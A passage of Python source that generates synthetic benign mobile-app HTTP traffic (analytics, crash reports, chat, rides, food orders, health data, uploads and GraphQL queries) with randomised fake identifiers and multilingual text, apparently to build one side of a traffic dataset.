        evs.append({"user_id": uidv, "device_id": dev, "event_type": r.choice(EVENTS), "time": ts_ms(r), "event_properties": event_props(r),
                    "user_properties": {"$set": {"plan": r.choice(["free", "pro", "family"]), "app_theme": r.choice(["dark", "light"])},
                                        "$add": {"sessions": 1}} if i == 0 else {},
                    "platform": r.choice(["Android", "iOS"]), "os_name": r.choice(["android", "ios"]), "app_version": app["ver"],
                    "carrier": r.choice(["T-Mobile", "Vodafone DE", "MTN", "Claro", "NTT DOCOMO"]), "session_id": ts_ms(r), "insert_id": uid(r),
                    "event_id": i + 1, "library": "amplitude-kotlin/1.16.0"})
    return dict(method="POST", host="api2.amplitude.com", path="/2/httpapi", body={"api_key": hexid(r, 32), "events": evs,
                                                                                   "options": {"min_id_length": 1}}, auth=False)


@benign_gen(10)
def b_mixpanel(r):
    app = pick_app(r)
    evs = [{"event": r.choice(EVENTS), "properties": dict(event_props(r), **{"token": hexid(r, 32), "distinct_id": "$device:" + uid(r).upper(),
                                                                                "time": ts_ms(r), "$os": "iOS", "$app_version_string": app["ver"],
                                                                                "mp_lib": "swift", "$insert_id": alnum(r, 16).lower()})}
           for _ in range(r.randint(1, 12))]
    if r.random() < 0.5:
        body = "data=" + enc(b64(js(evs))) + "&ip=1"
        return dict(method="POST", host="api.mixpanel.com", path="/track", body=body, ctype="application/x-www-form-urlencoded",
                    auth=False, client="ios-cf")
    return dict(method="POST", host="api-eu.mixpanel.com", path="/import", raw_query="strict=1", body=evs, auth="Basic " + b64(hexid(r, 32) + ":"),
                client="rn-android")


@benign_gen(12)
def b_segment(r):
    app = pick_app(r)
    anon = uid(r)
    batch = []
    for i in range(r.randint(2, 20)):
        t = r.choice(["track", "track", "screen", "identify"])
        m = {"type": t, "anonymousId": anon, "messageId": uid(r), "timestamp": ts_iso(r),
             "context": {"app": {"name": app["name"], "version": app["ver"], "build": app["build"], "namespace": app["bundle"]},
                         "device": {"manufacturer": "Apple", "model": r.choice(IOS)[0], "type": "ios", "adTrackingEnabled": False},
                         "library": {"name": "analytics-swift", "version": "1.5.11"}, "locale": r.choice(LANGS),
                         "network": {"wifi": r.random() < 0.5, "cellular": r.random() < 0.5}, "os": {"name": "iOS", "version": r.choice(IOS)[1]},
                         "screen": {"width": 393, "height": 852}, "timezone": "Europe/Madrid"}}
        if t == "track":
            m["event"] = r.choice(["Order Completed", "Product Viewed", "Ride Booked", "Workout Saved", "Message Sent"])
            m["properties"] = event_props(r)
        elif t == "screen":
            m["name"] = r.choice(SCREENS)
        else:
            f, l, email = person(r)
            m["userId"] = "usr_" + hexid(r, 10)
            m["traits"] = {"name": "%s %s" % (f, l), "email": email, "createdAt": ts_iso(r), "company": r.choice(["Acme & Co", "Müller GmbH", "O'Reilly Media"])}
        batch.append(m)
    return dict(method="POST", host="api.segment.io", path="/v1/batch", body={"batch": batch, "sentAt": ts_iso(r), "writeKey": alnum(r, 32)},
                auth="Basic " + b64(alnum(r, 32) + ":"), client=r.choice(["ios", "ios-cf"]))


@benign_gen(8)
def b_firebase_measurement(r):
    """app-measurement.com/a: protobuf batch as the Firebase SDK sends it (exact bytes)."""
    app = pick_app(r)
    events = []
    for _ in range(r.randint(2, 8)):
        params = [(1, [(1, "_o"), (2, "auto")]), (1, [(1, "_sc"), (2, r.choice(SCREENS))]), (1, [(1, "_si"), (3, r.getrandbits(62))])]
        events.append((2, [(1, params[0][1]), (1, params[1][1]), (1, params[2][1]), (2, r.choice(["_e", "_vs", "screen_view", "_s", "add_to_cart"])),
                           (3, ts_ms(r)), (4, ts_ms(r) - 1000)]))
    bundle = [(1, 1)] + events + [(3, [(1, ts_ms(r)), (2, "_fot"), (4, 1)]), (8, "android"), (9, r.choice(ANDROID)[1]),
                                   (10, r.choice(ANDROID)[0]), (11, "en-us"), (12, 3600), (14, app["bundle"]), (16, app["ver"]),
                                   (17, 80000), (21, "1:%d:android:%s" % (r.randint(10 ** 11, 10 ** 12), hexid(r, 16))), (27, hexid(r, 32))]
    body = pb([(1, bundle)])
    return dict(method="POST", host="app-measurement.com", path="/a", body=body, ctype="application/x-www-form-urlencoded",
                auth=False, client="dalvik")


JAVA_TRACES = [
    ("java.lang.NullPointerException", "Attempt to invoke virtual method 'java.lang.String com.ridely.model.Trip.getDriverName()' on a null object reference",
     ["com.ridely.ui.trip.TripFragment.bindDriver(TripFragment.kt:214)", "com.ridely.ui.trip.TripFragment.onViewCreated$lambda$3(TripFragment.kt:98)",
      "androidx.lifecycle.LiveData.considerNotify(LiveData.java:133)", "android.os.Handler.dispatchMessage(Handler.java:106)",
      "android.os.Looper.loopOnce(Looper.java:230)", "android.app.ActivityThread.main(ActivityThread.java:8177)",
      "java.lang.reflect.Method.invoke(Native Method)", "com.android.internal.os.RuntimeInit$MethodAndArgsCaller.run(RuntimeInit.java:548)"]),
    ("kotlinx.coroutines.JobCancellationException", "StandaloneCoroutine was cancelled; job=StandaloneCoroutine{Cancelling}@9c2e1f",
     ["kotlinx.coroutines.JobSupport.cancel(JobSupport.kt:1578)", "io.snackr.cart.CartViewModel$checkout$1.invokeSuspend(CartViewModel.kt:77)",
      "kotlin.coroutines.jvm.internal.BaseContinuationImpl.resumeWith(ContinuationImpl.kt:33)",
      "kotlinx.coroutines.DispatchedTask.run(DispatchedTask.kt:108)"]),
    ("android.database.sqlite.SQLiteConstraintException", "UNIQUE constraint failed: messages.local_id (code 2067 SQLITE_CONSTRAINT_UNIQUE)",
     ["android.database.sqlite.SQLiteConnection.nativeExecuteForLastInsertedRowId(Native Method)",
      "androidx.room.EntityInsertionAdapter.insert(EntityInsertionAdapter.kt:64)", "app.chatterly.db.MessageDao_Impl.insert(MessageDao_Impl.java:142)",
      "app.chatterly.sync.InboxSyncWorker.doWork(InboxSyncWorker.kt:51)", "androidx.work.CoroutineWorker$startWork$1.invokeSuspend(CoroutineWorker.kt:68)"]),
    ("java.lang.IllegalStateException", "Fragment ProfileFragment{7f3a2b1} not attached to a context.",
     ["androidx.fragment.app.Fragment.requireContext(Fragment.java:972)", "com.marketly.profile.ProfileFragment.showToast(ProfileFragment.kt:301)",
      "retrofit2.OkHttpCall$1.onResponse(OkHttpCall.java:161)", "okhttp3.internal.connection.RealCall$AsyncCall.run(RealCall.kt:519)",
      "java.util.concurrent.ThreadPoolExecutor.runWorker(ThreadPoolExecutor.java:1145)", "java.lang.Thread.run(Thread.java:1012)"]),
    ("java.net.SocketTimeoutException", "failed to connect to api.ridely.app/104.18.22.9 (port 443) from /10.12.0.8 (port 51324) after 10000ms",
     ["libcore.io.IoBridge.connectErrno(IoBridge.java:235)", "okhttp3.internal.connection.RealConnection.connectSocket(RealConnection.kt:295)",
      "okhttp3.internal.connection.ConnectInterceptor.intercept(ConnectInterceptor.kt:32)"]),
]
SWIFT_TRACES = [
    ("EXC_BREAKPOINT", "Fatal error: Unexpectedly found nil while unwrapping an Optional value",
     ["0  Ridely                 0x0000000102d4a8c4 RideMapViewController.updateETA(_:) + 412 (RideMapViewController.swift:188)",
      "1  Ridely                 0x0000000102d49f10 closure #1 in RideMapViewController.viewDidLoad() + 96",
      "2  libdispatch.dylib      0x00000001a0f1e13c _dispatch_call_block_and_release + 32",
      "3  UIKitCore              0x0000000198a5c3c4 -[UIApplication _run] + 888",
      "4  Ridely                 0x0000000102c01234 main + 64 (AppDelegate.swift:12)"]),
    ("EXC_BAD_ACCESS (SIGSEGV)", "KERN_INVALID_ADDRESS at 0x0000000000000010",
     ["0  libobjc.A.dylib        0x000000018f5a1c20 objc_msgSend + 32", "1  PulseFit   0x0000000100f3b2a8 HKSyncManager.flush(samples:) + 1204 (HKSyncManager.swift:97)",
      "2  PulseFit   0x0000000100f3a100 specialized HKSyncManager.observerQuery(_:completion:) + 388",
      "3  HealthKit  0x00000001b23c9d80 -[HKObserverQuery _queue_deliverUpdate] + 120"]),
    ("Swift runtime failure", "Index out of range",
     ["0  Chatterly  0x0000000104a1c3e8 ChatThreadViewController.tableView(_:cellForRowAt:) + 2212 (ChatThreadViewController.swift:412)",
      "1  UIKitCore  0x0000000198b41d2c -[UITableView _createPreparedCellForGlobalRow:withIndexPath:willDisplay:] + 1380"]),
]


@benign_gen(20)
def b_crash(r):
    app = pick_app(r)
    if r.random() < 0.6:
        exc, msg, frames = r.choice(JAVA_TRACES)
        trace = "%s: %s\n%s" % (exc, msg, "\n".join("\tat " + f for f in frames))
        if r.random() < 0.3:
            trace += "\nCaused by: java.io.IOException: unexpected end of stream on https://%s/...\n\tat okhttp3.internal.http1.Http1ExchangeCodec.readResponseHeaders(Http1ExchangeCodec.kt:210)\n\t... 12 more" % app["host"]
        body = {"crashId": uid(r), "timestamp": ts_iso(r), "fatal": r.random() < 0.7, "platform": "android", "exception": exc,
                "message": msg, "stacktrace": trace, "thread": r.choice(["main", "OkHttp Dispatcher", "DefaultDispatcher-worker-3"]),
                "device": {"model": r.choice(ANDROID)[0], "os": "Android " + r.choice(ANDROID)[1], "ramFree": r.randint(100, 3000) * 1048576,
                           "orientation": r.choice(["portrait", "landscape"]), "rooted": False},
                "app": {"version": app["ver"], "build": int(app["build"]), "package": app["bundle"]},
                "breadcrumbs": ["onResume: " + r.choice(SCREENS), "GET https://%s/v1/trips/active -> 200" % app["host"], "tap: btn_confirm"],
                "customKeys": {"experiment": "checkout_v2", "user_tier": "gold"}}
        return dict(method="POST", host="crash.%s" % app["host"].split(".", 1)[1], path="/v1/reports", body=body, client=r.choice(["android", "dalvik"]))
    exc, msg, frames = r.choice(SWIFT_TRACES)
    body = {"report_id": uid(r).upper(), "crashed_at": ts_iso(r), "signal": exc, "reason": msg, "threads": [{"crashed": True, "name": "com.apple.main-thread",
                                                                                                         "frames": frames}],
            "binary_images": [{"name": app["name"], "uuid": uid(r).upper(), "arch": "arm64e", "load_address": "0x102c00000"}],
            "os": "iOS " + r.choice(IOS)[1], "app_version": "%s (%s)" % (app["ver"], app["build"])}
    return dict(method="POST", host="crash.%s" % app["host"].split(".", 1)[1], path="/v1/reports", body=body, client=r.choice(["ios", "ios-cf"]))


@benign_gen(15)
def b_sentry(r):
    app = pick_app(r)
    eid = hexid(r, 32)
    key = hexid(r, 32)
    header = {"event_id": eid, "sent_at": ts_iso(r), "sdk": {"name": r.choice(["sentry.cocoa", "sentry.java.android", "sentry.dart.flutter", "sentry.javascript.react-native"]),
                                                             "version": "8.25.0"}, "dsn": "https://%s@o%d.ingest.sentry.io/%d" % (key, r.randint(10 ** 5, 10 ** 6), r.randint(10 ** 6, 10 ** 7))}
    k = r.randint(0, 2)
    if k == 0:
        exc, msg, frames = r.choice(JAVA_TRACES)
        item = {"event_id": eid, "level": "error", "platform": "java", "release": "%s@%s+%s" % (app["bundle"], app["ver"], app["build"]),
                "environment": "production", "exception": {"values": [{"type": exc.rsplit(".", 1)[-1], "module": exc.rsplit(".", 1)[0], "value": msg,
                                                                       "stacktrace": {"frames": [{"function": f.split("(")[0].rsplit(".", 1)[-1], "module": f.split("(")[0].rsplit(".", 1)[0],
                                                                                                  "filename": f.split("(")[1].split(":")[0], "in_app": f.startswith(("com.", "io.", "app."))}
                                                                                                 for f in frames if "(" in f]}}]},
                "contexts": {"device": {"model": r.choice(ANDROID)[0], "battery_level": r.randint(5, 100)}, "os": {"name": "Android", "version": "14"}},
                "breadcrumbs": {"values": [{"category": "http", "data": {"url": "https://%s/v1/cart?include=items,promos" % app["host"], "method": "GET", "status_code": 500}},
                                           {"category": "ui.click", "message": "checkout_button"}]}}
        typ = "event"
    elif k == 1:
        item = {"type": "transaction", "transaction": r.choice(SCREENS), "start_timestamp": ts_ms(r) / 1000.0, "timestamp": ts_ms(r) / 1000.0,
                "contexts": {"trace": {"trace_id": hexid(r, 32), "span_id": hexid(r, 16), "op": "ui.load"}},
                "spans": [{"op": "http.client", "description": "GET https://%s/v2/feed?cursor=%s" % (app["host"], b64u(js({"o": r.randint(1, 500)}))),
                           "span_id": hexid(r, 16)}, {"op": "db.sql.query", "description": "SELECT * FROM cached_orders WHERE user_id = ? ORDER BY created_at DESC LIMIT 20",
                                                       "span_id": hexid(r, 16)}]}
        typ = "transaction"
    else:
        item = {"sid": uid(r), "did": uid(r), "init": r.random() < 0.5, "started": ts_iso(r), "status": r.choice(["ok", "exited", "crashed"]),
                "errors": r.randint(0, 2), "attrs": {"release": "%s@%s" % (app["bundle"], app["ver"]), "environment": "production"}}
        typ = "session"
    payload = js(item)
    body = js(header) + "\n" + js({"type": typ, "length": len(payload.encode())}) + "\n" + payload + "\n"
    return dict(method="POST", host="o%d.ingest.sentry.io" % r.randint(10 ** 5, 10 ** 6), path="/api/%d/envelope/" % r.randint(10 ** 6, 10 ** 7),
                body=body, ctype="application/x-sentry-envelope", auth=False,
                extra=[("X-Sentry-Auth", "Sentry sentry_version=7, sentry_client=sentry.cocoa/8.25.0, sentry_key=%s" % key)])


@benign_gen(12)
def b_remote_config(r):
    app = pick_app(r)
    if r.random() < 0.5:
        body = {"appInstanceId": alnum(r, 22), "appInstanceIdToken": jwt(r, app), "appId": "1:%d:ios:%s" % (r.randint(10 ** 11, 10 ** 12), hexid(r, 16)),
                "countryCode": r.choice(["US", "DE", "BR", "JP", "NG"]), "languageCode": r.choice(LANGS), "platformVersion": "17.4.1",
                "timeZone": "Asia/Tokyo", "appVersion": app["ver"], "appBuild": app["build"], "packageName": app["bundle"],
                "sdkVersion": "10.27.0", "analyticsUserProperties": {"plan": "free", "first_open_time": str(ts_ms(r))}}
        return dict(method="POST", host="firebaseremoteconfig.googleapis.com",
                    path="/v1/projects/%d/namespaces/firebase:fetch" % r.randint(10 ** 11, 10 ** 12), body=body, auth=False,
                    extra=[("X-Goog-Api-Key", "AIza" + alnum(r, 35)), ("X-Ios-Bundle-Identifier", app["bundle"])])
    params = {"platform": r.choice(["ios", "android"]), "app_version": app["ver"], "os_version": r.choice(["14", "17.4.1", "13"]),
              "locale": r.choice(LANGS), "keys": "min_supported_version,maintenance_banner,checkout.tip_options,map.style_url"}
    return dict(method="GET", host=app["host"], path="/v1/config", params=params, extra=[("If-None-Match", '"%s"' % hexid(r, 16))])


@benign_gen(12)
def b_feature_flags(r):
    app = pick_app(r)
    k = r.randint(0, 2)
    if k == 0:
        ctx = {"kind": "user", "key": "usr_" + hexid(r, 12), "country": "DE", "appVersion": app["ver"], "beta": r.random() < 0.2}
        return dict(method="GET", host="clientsdk.launchdarkly.com", path="/msdk/evalx/contexts/" + b64u(js(ctx)),
                    auth="api_key mob-" + uid(r), extra=[("X-LaunchDarkly-User-Agent", "AndroidClient/5.1.1")], client="android")
    if k == 1:
        return dict(method="GET", host="unleash.%s" % app["host"].split(".", 1)[1], path="/api/frontend",
                    params={"appName": app["bundle"], "environment": "production", "userId": hexid(r, 10), "properties[platform]": "ios",
                            "properties[appVersion]": app["ver"]}, auth=alnum(r, 40))
    return dict(method="POST", host=app["host"], path="/v1/flags/evaluate",
                body={"flags": ["new_checkout", "dark_mode_v2", "ride_pool", "chat.voice_notes"], "context": {"userId": hexid(r, 12), "segment": "power_user",
                                                                                                              "rollout_bucket": r.randint(0, 99)}})


@benign_gen(15)
def b_deep_links(r):
    app = pick_app(r)
    k = r.randint(0, 4)
    dom = app["host"].split(".", 1)[1]
    if k == 0:
        return dict(method="GET", host="app-site-association.cdn-apple.com", path="/a/v1/" + r.choice(["links.", "go.", ""]) + dom, auth=False,
                    client="bare", extra=[("User-Agent", "AASA-Bot/1.0.0"), ("Accept", "*/*")])
    if k == 1:
        return dict(method="GET", host=dom, path=r.choice(["/.well-known/assetlinks.json", "/.well-known/apple-app-site-association"]), auth=False,
                    client="bare", extra=[("User-Agent", r.choice(["Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240405.002)", "swcd (unknown version) CFNetwork/1494.0.7 Darwin/23.4.0"]))])
    if k == 2:
        target = "https://%s/r/%s?ref=%s" % (dom, alnum(r, 8), alnum(r, 6))
        return dict(method="GET", host="links." + dom, path="/resolve", params={"link": target, "utm_source": "instagram", "utm_campaign": "spring_promo",
                                                                                "apn": app["bundle"], "ibi": app["bundle"], "isi": str(r.randint(10 ** 8, 10 ** 9))})
    if k == 3:
        return dict(method="POST", host=app["host"], path="/v1/deeplinks/open", body={"url": "%s://order/%d/track?src=push" % (app["name"].lower(), r.randint(10 ** 5, 10 ** 7)),
                                                                                     "referrer": "com.google.android.gm", "clickTimestamp": ts_ms(r)})
    return dict(method="GET", host="go." + dom, path="/" + alnum(r, 6), params={"deep_link_value": "promo/SPRING24", "af_sub1": "influencer_ana",
                                                                                "redirect": "https://%s/promo/spring" % dom}, auth=False, client="ios-cf")


# ---------------------------------------------------------------------------
# benign: purchases, chat, location, orders, health
# ---------------------------------------------------------------------------

@benign_gen(15)
def b_iap(r):
    app = pick_app(r)
    if r.random() < 0.5:
        receipt = b64(b"\x30\x82" + bytes(r.getrandbits(8) for _ in range(r.randint(1500, 4000))))
        body = {"receipt-data": receipt, "password": hexid(r, 32), "exclude-old-transactions": True,
                "productId": r.choice(["com.app.pro.monthly", "com.app.pro.yearly", "coins_500", "remove_ads"]), "transactionId": str(r.randint(10 ** 14, 10 ** 15))}
        return dict(method="POST", host=app["host"], path="/v1/purchases/apple/verify", body=body, client=r.choice(["ios", "ios-cf", "rn-ios"]))
    token = "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(24)) + ".AO-J1O" + alnum(r, 120, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    body = {"packageName": app["bundle"], "productId": r.choice(["pro_monthly", "pro_annual_trial", "gems_pack_1200"]), "purchaseToken": token,
            "orderId": "GPA.%04d-%04d-%04d-%05d" % (r.randint(0, 9999), r.randint(0, 9999), r.randint(0, 9999), r.randint(0, 99999)),
            "purchaseTime": ts_ms(r), "acknowledged": False, "obfuscatedAccountId": hexid(r, 32)}
    return dict(method="POST", host=app["host"], path="/v1/purchases/google/verify", body=body, client=r.choice(["android", "flutter", "rn-android"]))


CHAT_TEXT = ["on my way 🚗💨", "lol 😂😂 that's wild", "Can you pick up milk & eggs? 🥛🥚", "see you at 7 <3", "ok 👍", "Bist du schon da?",
             "¿Nos vemos mañana a las 10?", "今どこにいるの？", "언제 도착해요?", "Ça marche, à tout à l'heure !", "I'm 5 min away, gate B",
             "select the blue one, not the red one", "where do we drop the boxes?", "he said \"never again\" 🙃", "x < 10 and y > 3, right?",
             "brb — charging my phone 🔋", "call me when u r free", "Happy birthday!!! 🎉🎂🥳", "ok so 1) tickets 2) hotel 3) car",
             "price is $25 (or €23)", "<3 <3 <3", "I'll update the doc tonight; check section 2", "Привет! Как дела?", "मैं रास्ते में हूँ",
             "שלום, מה נשמע?", "مرحبا، كيف حالك؟", "100% agree 💯", "meet @ the café on 5th & Main", "order #4821 is ready for pickup"]


@benign_gen(22)
def b_chat(r):
    app = APPS["chat"]
    conv = "cnv_" + hexid(r, 16)
    k = r.randint(0, 5)
    if k <= 2:
        body = {"clientMessageId": uid(r), "conversationId": conv, "type": "text", "text": r.choice(CHAT_TEXT), "sentAt": ts_iso(r)}
        if r.random() < 0.3:
            body["replyTo"] = "msg_" + hexid(r, 16)
        if r.random() < 0.2:
            body["mentions"] = [{"userId": "u_" + hexid(r, 10), "offset": 0, "length": 5}]
        return dict(method="POST", host=app["host"], path="/v3/conversations/%s/messages" % conv, body=body)
    if k == 3:
        att = {"type": r.choice(["image", "video", "audio", "file"]), "uploadId": "upl_" + hexid(r, 20), "mime": r.choice(["image/jpeg", "image/heic", "video/mp4", "audio/m4a", "application/pdf"]),
               "name": r.choice(["IMG_4821.HEIC", "PXL_20240512_183011123.jpg", "voice-note 12.m4a", "Rechnung März.pdf", "boarding pass (1).pdf"]),
               "size": r.randint(10000, 9000000), "width": 4032, "height": 3024, "blurhash": "LEHV6nWB2yk8pyo0adR*.7kCMdnj"}
        return dict(method="POST", host=app["host"], path="/v3/conversations/%s/messages" % conv,
                    body={"clientMessageId": uid(r), "type": "attachment", "attachments": [att], "caption": r.choice(["", "look at this!", "📸"])})
    if k == 4:
        return dict(method="GET", host=app["host"], path="/v3/conversations/%s/messages" % conv,
                    params={"before": "msg_" + hexid(r, 16), "limit": 50, "include": "reactions,attachments"})
    return dict(method="POST", host=app["host"], path="/v3/messages/msg_%s/reactions" % hexid(r, 16), body={"emoji": r.choice(["❤️", "👍", "😂", "🙏", "🔥", "👨‍👩‍👧"])})


@benign_gen(15)
def b_location(r):
    app = pick_app(r, "ride", "food", "fit")
    lat, lon = r.choice([(52.52, 13.405), (40.7128, -74.006), (-23.55, -46.633), (35.6762, 139.6503), (6.5244, 3.3792), (51.5072, -0.1276)])
    pts = []
    for i in range(r.randint(1, 30)):
        lat += r.uniform(-0.001, 0.001)
        lon += r.uniform(-0.001, 0.001)
        pts.append({"lat": round(lat, 6), "lng": round(lon, 6), "acc": round(r.uniform(3, 40), 1), "speed": round(r.uniform(0, 15), 2),
                    "heading": r.randint(0, 359), "alt": round(r.uniform(0, 80), 1), "ts": ts_ms(r) + i * 1000,
                    "provider": r.choice(["fused", "gps", "network"])})
    if r.random() < 0.8:
        return dict(method="POST", host=app["host"], path="/v1/location/batch", body={"points": pts, "battery": r.randint(5, 100), "charging": False,
                                                                                      "motion": r.choice(["walking", "in_vehicle", "still"])})
    return dict(method="GET", host=app["host"], path="/v1/geo/reverse", params={"lat": pts[0]["lat"], "lng": pts[0]["lng"], "lang": "de"})


ADDRESSES = ["Unter den Linden 77, 10117 Berlin", "350 5th Ave, New York, NY 10118", "Av. Paulista, 1578 - Bela Vista, São Paulo", "東京都渋谷区道玄坂1-2-3",
             "12 O'Connell St Upper, Dublin 1", "Terminal 2, Gate B (Arrivals)", "Flat 4B; 22 Baker St, London NW1 6XE", "Rue de Rivoli 99, 75001 Paris",
             "Plot 5 Admiralty Way, Lekki Phase 1, Lagos", "Kurfürstendamm 26a (Hinterhaus)"]


@benign_gen(15)
def b_ride(r):
    app = APPS["ride"]
    k = r.randint(0, 3)
    pick = {"lat": round(r.uniform(52.4, 52.6), 6), "lng": round(r.uniform(13.2, 13.6), 6), "address": r.choice(ADDRESSES)}
    drop = {"lat": round(r.uniform(52.4, 52.6), 6), "lng": round(r.uniform(13.2, 13.6), 6), "address": r.choice(ADDRESSES)}
    if k == 0:
        return dict(method="POST", host=app["host"], path="/v2/rides/estimate", body={"pickup": pick, "dropoff": drop, "products": ["economy", "comfort", "xl"],
                                                                                      "scheduledFor": None})
    if k == 1:
        return dict(method="POST", host=app["host"], path="/v2/rides", body={"pickup": pick, "dropoff": drop, "product": "comfort", "fareId": "fare_" + hexid(r, 16),
                                                                             "paymentMethodId": "pm_" + alnum(r, 24), "noteToDriver": r.choice(["I'm at the blue door", "2 suitcases + stroller", "Gate B, near Starbucks", ""]),
                                                                             "idempotencyKey": uid(r)})
    if k == 2:
        return dict(method="POST", host=app["host"], path="/v2/rides/ride_%s/rating" % hexid(r, 12),
                    body={"stars": r.randint(1, 5), "tip": {"amount": r.choice([0, 100, 200, 500]), "currency": "EUR"}, "tags": ["clean_car", "great_music"],
                          "comment": r.choice(["Great driver, 10/10!", "Took a weird route -- 20 min longer", "Danke! 👍", "AC didn't work :("])})
    return dict(method="GET", host=app["host"], path="/v2/rides", params={"status": "completed", "from": "2024-01-01", "to": "2024-06-30", "page": r.randint(1, 5), "per_page": 20,
                                                                          "sort": "-created_at"})


@benign_gen(15)
def b_food(r):
    app = APPS["food"]
    k = r.randint(0, 3)
    if k == 0:
        items = [{"menuItemId": "mi_" + hexid(r, 10), "qty": r.randint(1, 3), "options": [{"group": "size", "value": r.choice(["M", "L"])}],
                  "note": r.choice(["no onions; extra sauce", "well done please", "gluten-free if possible", "", "cut in half & no pickles"])} for _ in range(r.randint(1, 5))]
        return dict(method="PUT", host=app["host"], path="/v1/carts/current", body={"restaurantId": "rst_" + hexid(r, 10), "items": items})
    if k == 1:
        return dict(method="POST", host=app["host"], path="/v1/orders", body={"cartId": "cart_" + hexid(r, 16), "address": {"line1": r.choice(ADDRESSES), "floor": "3",
                                                                                                                             "instructions": r.choice(["Ring bell & leave at door", "Code 1234#, 2nd floor", "Don't knock — baby sleeping!"])},
                                                                              "tip": 300, "paymentMethod": {"type": r.choice(["apple_pay", "google_pay", "card"]), "token": "tok_" + alnum(r, 24)},
                                                                              "promoCode": r.choice(["", "WELCOME10", "FREESHIP"])})
    if k == 2:
        return dict(method="GET", host=app["host"], path="/v1/restaurants", params={"lat": 48.8566, "lng": 2.3522, "cuisine": r.choice(["pizza", "sushi", "thai", "kebab", "crêpes"]),
                                                                                    "sort": r.choice(["distance", "rating", "-delivery_fee"]), "open_now": "true", "q": r.choice(["pad thai", "burger & fries", "café", ""])})
    return dict(method="GET", host=app["host"], path="/v1/orders/ord_%s/track" % hexid(r, 12), extra=[("If-None-Match", 'W/"%s"' % hexid(r, 8))])


HK_TYPES = [("HKQuantityTypeIdentifierStepCount", "count"), ("HKQuantityTypeIdentifierHeartRate", "count/min"),
            ("HKQuantityTypeIdentifierActiveEnergyBurned", "kcal"), ("HKQuantityTypeIdentifierDistanceWalkingRunning", "km"),
            ("HKCategoryTypeIdentifierSleepAnalysis", ""), ("HKQuantityTypeIdentifierBodyMass", "kg")]


@benign_gen(12)
def b_health(r):
    app = APPS["fit"]
    samples = []
    for _ in range(r.randint(5, 40)):
        t, unit = r.choice(HK_TYPES)
        samples.append({"uuid": uid(r).upper(), "type": t, "value": round(r.uniform(40, 180), 1) if unit else r.choice(["asleepCore", "asleepREM", "awake"]),
                        "unit": unit, "startDate": ts_iso(r), "endDate": ts_iso(r),
                        "source": {"name": r.choice(["Apple Watch von Anna", "iPhone", "Mi Band 8", "Garmin Connect"]), "bundleIdentifier": "com.apple.health." + hexid(r, 8)},
                        "metadata": {"HKWasUserEntered": False, "HKTimeZone": "Europe/Berlin"}})
    if r.random() < 0.7:
        return dict(method="POST", host=app["host"], path="/v1/health/samples:batchUpload", body={"anchor": b64(bytes(r.getrandbits(8) for _ in range(24))), "samples": samples},
                    client=r.choice(["ios", "ios-cf", "flutter"]))
    wk = {"activityType": r.choice(["running", "cycling", "yoga", "traditionalStrengthTraining"]), "duration": r.randint(600, 7200), "totalEnergyBurned": r.randint(100, 900),
          "route": [[round(r.uniform(52, 53), 5), round(r.uniform(13, 14), 5)] for _ in range(10)], "notes": r.choice(["Felt great 💪", "Intervals 6x400m @ 4:05/km", ""])}
    return dict(method="POST", host=app["host"], path="/v1/workouts", body=wk, client=r.choice(["android", "flutter"]))


# ---------------------------------------------------------------------------
# benign: uploads, GraphQL, binary protocols
# ---------------------------------------------------------------------------

@benign_gen(15)
def b_camera_upload(r):
    app = APPS["cam"]
    kind = r.choice(["android", "ios", "flutter", "rn-ios", "rn-android"])
    heic = kind in ("ios", "rn-ios") and r.random() < 0.5
    if heic:
        data, fn, ct = fake_heic(r, r.randint(300, 900)), "IMG_%04d.HEIC" % r.randint(1, 9999), "image/heic"
    else:
        lat, lon = r.uniform(-40, 60), r.uniform(-120, 140)
        data = fake_jpeg(r, *r.choice([("Apple", "iPhone 15 Pro"), ("Google", "Pixel 8"), ("samsung", "SM-S918B")]), lat=lat, lon=lon, size=r.randint(300, 900))
        fn, ct = r.choice(["PXL_20240601_%06d.jpg", "IMG_%06d.jpg", "image_picker_%06d.jpg"]) % r.randint(0, 999999), "image/jpeg"
    meta = js({"albumId": "alb_" + hexid(r, 10), "caption": r.choice(["Sunset at Ipanema 🌅", "Mont-Saint-Michel", "富士山", "", "family & friends"]),
               "takenAt": ts_iso(r), "keepExif": r.random() < 0.5})
    parts = [("metadata", None, "application/json; charset=utf-8", meta), ("file", fn, ct, data)]
    body, ctype = multipart(parts, boundary_for(r, kind))
    return dict(method="POST", host=app["host"], path="/v2/media/upload", body=body, ctype=ctype, client=kind,
                extra=[("X-Upload-Id", uid(r))])


APOLLO_OPS = [
    ("GetFeed", "query GetFeed($first: Int!, $after: String) { feed(first: $first, after: $after) { edges { node { id title author { name avatarUrl } } } pageInfo { endCursor hasNextPage } } }",
     lambda r: {"first": 20, "after": b64("cursor:%d" % r.randint(1, 900))}),
    ("ProductDetail", "query ProductDetail($id: ID!) { product(id: $id) { id name price { amount currency } images(size: LARGE) { url } reviews(first: 3) { rating body } } }",
     lambda r: {"id": "UHJvZHVjdDo" + alnum(r, 6)}),
    ("SearchRestaurants", "query SearchRestaurants($q: String!, $filter: RestaurantFilter, $sort: SortOrder) { search(q: $q, filter: $filter, sort: $sort) { id name rating etaMinutes } }",
     lambda r: {"q": r.choice(["pizza", "pho", "döner", "sushi & sake"]), "filter": {"openNow": True, "priceLevel": [1, 2]}, "sort": "RATING_DESC"}),
    ("UpdateProfile", "mutation UpdateProfile($input: UpdateProfileInput!) { updateProfile(input: $input) { user { id displayName bio } errors { field message } } }",
     lambda r: {"input": {"displayName": "%s %s" % (r.choice(FIRST), r.choice(LAST)), "bio": r.choice(["Coffee, code & climbing ☕🧗", "Designer @ Berlin", "私は写真が好きです"])}}),
    ("SendMessage", "mutation SendMessage($conversationId: ID!, $text: String!) { sendMessage(conversationId: $conversationId, text: $text) { id createdAt } }",
     lambda r: {"conversationId": "cnv_" + hexid(r, 12), "text": r.choice(CHAT_TEXT)}),
    ("OrderHistory", "query OrderHistory($status: [OrderStatus!], $orderBy: OrderOrder) { viewer { orders(status: $status, orderBy: $orderBy, first: 10) { nodes { id total createdAt } } } }",
     lambda r: {"status": ["DELIVERED", "CANCELLED"], "orderBy": {"field": "CREATED_AT", "direction": "DESC"}}),
]


@benign_gen(22)
def b_graphql(r):
    app = pick_app(r, "shop", "food", "chat")
    name, q, varf = r.choice(APOLLO_OPS)
    h = hashlib.sha256(q.encode()).hexdigest()
